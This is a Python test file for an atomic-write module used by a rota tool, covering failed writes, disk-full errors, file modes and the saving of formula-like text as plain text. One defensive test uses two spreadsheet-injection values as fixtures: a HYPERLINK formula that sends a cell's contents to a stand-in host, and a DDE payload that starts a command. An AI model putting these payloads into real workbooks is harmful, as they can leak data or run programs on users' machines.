"""Atomic writes: a failure never leaves a half-written file over a good one; modes and text
cells as the user expects."""

from __future__ import annotations

import errno
import os
import stat
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from models.atomic import atomic_write, atomic_write_text, save_workbook


def test_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
    """When writing fails midway, the earlier file is untouched and no temporary file is left."""
    target = tmp_path / "rota.xlsx"
    atomic_write_text(target, "good")

    def half_then_fail(temporary: Path) -> None:
        temporary.write_text("half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        atomic_write(target, half_then_fail)
    assert target.read_text() == "good"
    assert [p.name for p in tmp_path.iterdir()] == ["rota.xlsx"]


def test_a_full_disk_names_the_file_the_user_asked_for(tmp_path: Path) -> None:
    """A write that fails for want of space names the target, not the hidden temporary file,
    and leaves nothing behind."""
    target = tmp_path / "rota.xlsx"

    def no_space(temporary: Path) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(temporary))

    with pytest.raises(OSError, match="No space left") as raised:
        atomic_write(target, no_space)
    assert raised.value.filename == str(target)
    assert raised.value.errno == errno.ENOSPC
    assert list(tmp_path.iterdir()) == []


def test_write_creates_folder(tmp_path: Path) -> None:
    """The target's folder is made when missing."""
    target = tmp_path / "new" / "unit.yaml"
    atomic_write_text(target, "name: x\\n")
    assert target.read_text() == "name: x\\n"


def test_a_new_file_gets_the_mode_the_umask_gives(tmp_path: Path) -> None:
    """A new file is as readable as the user's umask makes new files (0644 under 022), not
    owner-only; a file written over keeps the mode it had."""
    old = os.umask(0o022)
    try:
        target = tmp_path / "turnus.xlsx"
        atomic_write_text(target, "first")
        assert stat.S_IMODE(target.stat().st_mode) == 0o644
        target.chmod(0o600)
        atomic_write_text(target, "second")
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_text_that_looks_like_a_formula_is_saved_as_text(tmp_path: Path) -> None:
    """A cell given text that starts with '=' (a name from the input) is saved as that text,
    not as a formula Excel would run; numbers and plain text are as they were."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = '=HYPERLINK("http://x.example/?leak="&B1,"Klikk")'
    sheet["A2"] = "=cmd|' /C calc'!A0"
    sheet["B1"] = "Kari"
    sheet["B2"] = 37.5
    target = tmp_path / "ut.xlsx"
    save_workbook(workbook, target)
    again = load_workbook(target).active
    assert again is not None
    assert again["A1"].value == '=HYPERLINK("http://x.example/?leak="&B1,"Klikk")'
    assert again["A1"].data_type == "s"
    assert again["A2"].data_type == "s"
    assert again["B1"].value == "Kari"
    assert again["B2"].value == 37.5
